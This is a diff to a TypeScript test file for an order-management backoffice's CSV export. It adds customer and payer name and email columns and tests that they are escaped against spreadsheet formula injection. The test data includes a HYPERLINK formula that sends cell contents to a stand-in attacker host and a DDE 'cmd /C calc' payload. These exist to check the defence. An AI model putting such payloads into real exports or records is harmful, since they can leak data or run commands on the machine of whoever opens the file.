@@ -2,23 +2,41 @@ import { randomUUID } from 'node:crypto';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Currency, Customer, OrderExportInput } from '@orders/shared';
 import { parseCsv, seedOrders, startBackofficeEnv, type BackofficeTestEnv, type StaffSession } from '../support/backoffice.ts';
+import { buyerChooses } from '../support/paypal-server.ts';
 
 const SEEDED = 2_500;
 const HEADER = [
   'order_id', 'created_at', 'updated_at', 'paid_at', 'status', 'customer_type', 'customer_id', 'currency',
   'total', 'total_minor', 'refunded', 'refunded_minor', 'payment_status', 'paypal_sale_id', 'paypal_payment_id', 'payer_email',
+  'payer_name', 'customer_email', 'customer_name',
 ];
+const column = (name: string) => HEADER.indexOf(name);
 
 let env: BackofficeTestEnv;
 let viewer: StaffSession;
 const awkward: Customer = { type: 'anonymous', id: `=HYPERLINK("x"), "quoted", and\nnewline ${randomUUID()}` };
+/** Names and emails staff typed or PayPal sent, which a spreadsheet would run as formulas. */
+const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1, "Click me")';
+const HOSTILE_EMAIL = `-2+3@${randomUUID().slice(0, 8)}.example`;
+let paid: { orderId: string; customerEmail: string };
+let named: string;
 
-async function orderFor(customer: Customer, unitPrice: number, currency: Currency) {
+async function orderFor(customer: Customer, unitPrice: number, currency: Currency, who: { customerEmail?: string; customerName?: string } = {}) {
   const sku = `SKU-${randomUUID().slice(0, 8)}`;
   await env.client.catalog.upsertProduct.mutate({ sku, name: `Thing ${sku}`, unitPrice, currency, stock: 100 });
   const cart = await env.client.carts.create.mutate({ customer });
   await env.client.carts.setItem.mutate({ customer, cartId: cart.id, sku, quantity: 1 });
-  return env.client.orders.create.mutate({ customer, cartId: cart.id });
+  return env.client.orders.create.mutate({ customer, cartId: cart.id, ...who });
+}
+
+/** An order the simulator's buyer (Test Buyer, buyer@example.com) paid through the approval page. */
+async function paidOrder() {
+  const customer: Customer = { type: 'user', id: `export-paid-${randomUUID()}` };
+  const customerEmail = `shopper-${randomUUID().slice(0, 8)}@example.com`;
+  const order = await orderFor(customer, 2500, 'USD', { customerEmail, customerName: 'Ada Lovelace' });
+  const attempt = await env.client.payments.attemptToPay.mutate({ customer, orderId: order.id });
+  await buyerChooses(env, attempt.externalId, 'approve');
+  return { orderId: order.id, customerEmail };
 }
 
 beforeAll(async () => {
@@ -27,6 +45,8 @@ beforeAll(async () => {
   await seedOrders(env, SEEDED, 'export');
   await orderFor(awkward, 1999, 'USD');
   await orderFor(awkward, 1500, 'JPY');
+  paid = await paidOrder();
+  named = (await orderFor({ type: 'user', id: `export-named-${randomUUID()}` }, 700, 'EUR', { customerEmail: HOSTILE_EMAIL, customerName: HOSTILE_NAME })).id;
 });
 afterAll(() => env.close());
 
@@ -45,8 +65,8 @@ describe('CSV export', () => {
     const { text, chunks } = await viaTrpc({});
     const [header, ...records] = parseCsv(text);
     expect(header).toEqual(HEADER);
-    expect(records).toHaveLength(SEEDED + 2);
-    expect(new Set(records.map((r) => r[0])).size).toBe(SEEDED + 2);
+    expect(records).toHaveLength(SEEDED + 4);
+    expect(new Set(records.map((r) => r[0])).size).toBe(SEEDED + 4);
     // Streamed as PostgreSQL's COPY sends it: the export never holds the whole result.
     expect(chunks.length).toBeGreaterThan(1);
     const total = await viewer.client.backoffice.orders.search.query({ limit: 1 });
@@ -75,6 +95,42 @@ describe('CSV export', () => {
     expect(records.every((r) => ['paid', 'refunded'].includes(r[4]!) && r[7] === 'EUR')).toBe(true);
   });
 
+  it('carries the customer and the payer as the list shows them: customer email and name, payer name and email', async () => {
+    const { text } = await viaTrpc({ status: ['paid'], currency: 'USD' });
+    const [, ...records] = parseCsv(text);
+    const row = records.find((r) => r[0] === paid.orderId)!;
+    expect(row).toBeDefined();
+    const listed = await viewer.client.backoffice.orders.get.query({ orderId: paid.orderId });
+    expect(listed.order).toMatchObject({ customerEmail: paid.customerEmail, customerName: 'Ada Lovelace', payerEmail: 'buyer@example.com', payerName: 'Test Buyer' });
+    expect(row[column('customer_email')]).toBe(paid.customerEmail);
+    expect(row[column('customer_name')]).toBe('Ada Lovelace');
+    expect(row[column('payer_name')]).toBe('Test Buyer');
+    expect(row[column('payer_email')]).toBe('buyer@example.com');
+
+    // The payer is the one who paid (the order's), not whoever approved the latest attempt.
+    await env.pool.query(`update order_payment_attempt set payer_email = 'someone-else@example.com' where order_id = $1`, [paid.orderId]);
+    const [, ...again] = parseCsv((await viaTrpc({ status: ['paid'], currency: 'USD' })).text);
+    expect(again.find((r) => r[0] === paid.orderId)![column('payer_email')]).toBe('buyer@example.com');
+
+    // Every row's names and emails read as the list reads them.
+    const search = await viewer.client.backoffice.orders.search.query({ status: ['paid'], currency: 'USD', limit: 500 });
+    expect(again.map((r) => [r[0], r[column('customer_email')], r[column('customer_name')], r[column('payer_name')], r[column('payer_email')]])).toEqual(
+      search.items.map((r) => [r.id, r.customerEmail ?? '', r.customerName ?? '', r.payerName ?? '', r.payerEmail ?? '']),
+    );
+  });
+
+  it('guards the name and email columns against formulas: a leading = + - @ is written after an apostrophe', async () => {
+    await env.pool.query(`update "order" set payer_name = $2, payer_email = $3 where id = $1`, [named, `@SUM(1+1)*cmd|' /C calc'!A0`, `+1-555@example.com`]);
+    const { text } = await viaTrpc({ currency: 'EUR', customerId: (await viewer.client.backoffice.orders.get.query({ orderId: named })).order.customer.id });
+    const [, row] = parseCsv(text);
+    expect(row![0]).toBe(named);
+    expect(row![column('customer_name')]).toBe(`'${HOSTILE_NAME}`);
+    expect(row![column('customer_email')]).toBe(`'${HOSTILE_EMAIL}`);
+    expect(row![column('payer_name')]).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0`);
+    expect(row![column('payer_email')]).toBe(`'+1-555@example.com`);
+    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1, ""Click me"")"`);
+  });
+
   it('is a plain HTTP download with a bearer token, the same bytes as the tRPC stream', async () => {
     const response = await viaHttp('?status=paid&status=refunded&currency=EUR&sort=total&direction=asc');
     expect(response.status).toBe(200);
@@ -84,7 +140,7 @@ describe('CSV export', () => {
     expect(body).toBe((await viaTrpc({ status: ['paid', 'refunded'], currency: 'EUR', sort: 'total', direction: 'asc' })).text);
 
     const all = await viaHttp('');
-    expect(parseCsv(await all.text())).toHaveLength(SEEDED + 3);
+    expect(parseCsv(await all.text())).toHaveLength(SEEDED + 5);
     const comma = await viaHttp('?status=paid,pending&amountMin=1000&amountMax=5000&customerType=user');
     const [, ...records] = parseCsv(await comma.text());
     expect(records.length).toBeGreaterThan(0);
@@ -102,7 +158,7 @@ describe('CSV export', () => {
     }
     const complete = await viaHttp('');
     expect(complete.status).toBe(200);
-    expect(parseCsv(await complete.text())).toHaveLength(SEEDED + 3);
+    expect(parseCsv(await complete.text())).toHaveLength(SEEDED + 5);
     const { rows } = await env.pool.query(`select count(*)::int as n from pg_stat_activity where query ilike 'copy (%' and state = 'active'`);
     expect(rows[0].n).toBe(0);
   });
